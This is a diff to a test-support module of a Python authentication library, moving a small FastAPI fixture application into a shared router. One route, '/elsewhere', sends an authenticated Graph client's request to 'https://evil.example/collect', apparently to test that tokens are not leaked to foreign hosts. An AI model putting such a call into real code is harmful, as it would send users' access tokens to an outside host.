@@ -14,7 +14,7 @@ from urllib.parse import parse_qsl, urlsplit
 import httpx2
 from entrada_emulator.directory import seeds
 from entrada_emulator.pytest_plugin import Entra
-from fastapi import FastAPI, Request
+from fastapi import APIRouter, FastAPI, Request
 from fastapi.responses import HTMLResponse
 
 from entrada import (
@@ -132,48 +132,61 @@ def settings(data_dir: Path, **values: Any) -> Settings:
     return Settings.load(**(given | values))
 
 
+PORTAL = APIRouter()
+"""The pages of a small application, made once: that takes a fifth of the time that a door takes."""
+
+
+@PORTAL.get("/")
+async def home(user: OptionalUser) -> dict[str, str]:
+    return {"hello": user.name if user else "stranger"}
+
+
+@PORTAL.get("/private")
+async def private(user: CurrentUser, csrf_token: CsrfToken) -> HTMLResponse:
+    return HTMLResponse(
+        f"<title>Private</title><p>Hello {user.name}</p>"
+        '<form method="post" action="/api/auth/logout">'
+        f'<input type="hidden" name="csrf_token" value="{csrf_token}"><button>Sign out</button></form>'
+        '<form method="post" action="/note">'
+        f'<input type="hidden" name="csrf_token" value="{csrf_token}"><input name="text">'
+        "<button>Save</button></form>"
+    )
+
+
+@PORTAL.post("/note")
+async def note(user: CurrentUser) -> dict[str, str]:
+    return {"saved by": user.name}
+
+
+@PORTAL.get("/graph")
+async def graph(client: Graph) -> dict[str, str]:
+    answer = await client.get("/me")
+    return {"name": answer.json()["displayName"], "source": client.token_source}
+
+
+@PORTAL.get("/elsewhere")
+async def elsewhere(client: Graph) -> dict[str, int]:
+    return {"status": (await client.get("https://evil.example/collect")).status_code}
+
+
+@PORTAL.post("/hook")
+async def hook() -> dict[str, str]:
+    return {"heard": "yes"}
+
+
+@PORTAL.post("/length")
+async def length(request: Request, user: CurrentUser) -> dict[str, int]:
+    return {"length": len(await request.body())}
+
+
+@PORTAL.get("/broken")
+async def broken() -> None:
+    raise ValueError("the words of the exception")
+
+
 def routes(app: FastAPI) -> None:
     """Add the pages of a small application."""
-
-    @app.get("/")
-    async def home(user: OptionalUser) -> dict[str, str]:
-        return {"hello": user.name if user else "stranger"}
-
-    @app.get("/private")
-    async def private(user: CurrentUser, csrf_token: CsrfToken) -> HTMLResponse:
-        return HTMLResponse(
-            f"<title>Private</title><p>Hello {user.name}</p>"
-            '<form method="post" action="/api/auth/logout">'
-            f'<input type="hidden" name="csrf_token" value="{csrf_token}"><button>Sign out</button></form>'
-            '<form method="post" action="/note">'
-            f'<input type="hidden" name="csrf_token" value="{csrf_token}"><input name="text">'
-            "<button>Save</button></form>"
-        )
-
-    @app.post("/note")
-    async def note(user: CurrentUser) -> dict[str, str]:
-        return {"saved by": user.name}
-
-    @app.get("/graph")
-    async def graph(client: Graph) -> dict[str, str]:
-        answer = await client.get("/me")
-        return {"name": answer.json()["displayName"], "source": client.token_source}
-
-    @app.get("/elsewhere")
-    async def elsewhere(client: Graph) -> dict[str, int]:
-        return {"status": (await client.get("https://evil.example/collect")).status_code}
-
-    @app.post("/hook")
-    async def hook() -> dict[str, str]:
-        return {"heard": "yes"}
-
-    @app.post("/length")
-    async def length(request: Request, user: CurrentUser) -> dict[str, int]:
-        return {"length": len(await request.body())}
-
-    @app.get("/broken")
-    async def broken() -> None:
-        raise ValueError("the words of the exception")
+    app.router.routes.extend(PORTAL.routes)
 
 
 @asynccontextmanager
